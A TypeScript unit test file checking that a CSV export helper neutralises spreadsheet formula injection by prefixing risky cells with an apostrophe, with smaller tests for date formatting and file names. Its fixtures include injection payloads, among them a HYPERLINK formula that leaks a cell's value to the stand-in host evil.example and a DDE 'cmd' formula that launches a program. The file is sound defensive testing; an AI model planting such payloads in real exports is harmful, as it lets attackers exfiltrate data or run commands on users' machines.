import { buildCsv, buildCsvFileName, formatCsvDate } from '@phi/contracts';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';

describe('buildCsv', () => {
  it('escapes cells that a spreadsheet would run as a formula', () => {
    const csv = buildCsv(
      ['Name', 'Notes'],
      [
        ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1 555'],
        ['-2+3', '@SUM(A1:A2)'],
        ['Ada Lovelace', 'a = b, said "she"'],
      ],
    );
    const rows = Papa.parse<string[]>(csv.trim()).data;
    expect(rows[0]).toEqual(['Name', 'Notes']);
    expect(rows[1]).toEqual(['\'=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'+1 555"]);
    expect(rows[2]).toEqual(["'-2+3", "'@SUM(A1:A2)"]);
    // Other cells are untouched, quoted where CSV needs it.
    expect(rows[3]).toEqual(['Ada Lovelace', 'a = b, said "she"']);
    expect(csv.split('\r\n')[1]?.startsWith('"\'=HYPERLINK(')).toBe(true);
  });

  it('escapes a formula that goes on over several lines, by the first character of the value', () => {
    const payloads = [
      '=HYPERLINK("http://evil.example","x")\nsecond line',
      '+1+1\r\ncmd',
      '-2\r=3',
      '@SUM(A1)\n',
      '\t=1\n2',
      "\r=cmd|'/c calc'!A1\n",
    ];
    const csv = buildCsv(
      ['Name', 'Company'],
      payloads.map((payload) => [payload, payload]),
    );
    const rows = Papa.parse<string[]>(csv, { newline: '\r\n' }).data;
    payloads.forEach((payload, index) => {
      expect(rows[index + 1]).toEqual([`'${payload}`, `'${payload}`]);
    });
    // A line feed later in a plain value is no formula: the cell stays as it was.
    const plain = Papa.parse<string[]>(buildCsv(['Name'], [['Ada\n=1+1']]), {
      newline: '\r\n',
    }).data;
    expect(plain[1]).toEqual(['Ada\n=1+1']);
  });

  it('writes only the header for no rows', () => {
    expect(buildCsv(['A', 'B'], []).trim()).toBe('A,B');
  });
});

describe('formatCsvDate', () => {
  it('is the ISO calendar day', () => {
    expect(formatCsvDate(new Date('2025-03-05T23:10:00Z'))).toBe('2025-03-05');
  });
});

describe('buildCsvFileName (spec: chat-news-admin §7)', () => {
  it('names the file after the list and the day', () => {
    expect(buildCsvFileName('contacts', '2025-03-05')).toBe('contacts_2025-03-05.csv');
    expect(buildCsvFileName('applications', '2025-03-05')).toBe('applications_2025-03-05.csv');
  });
});
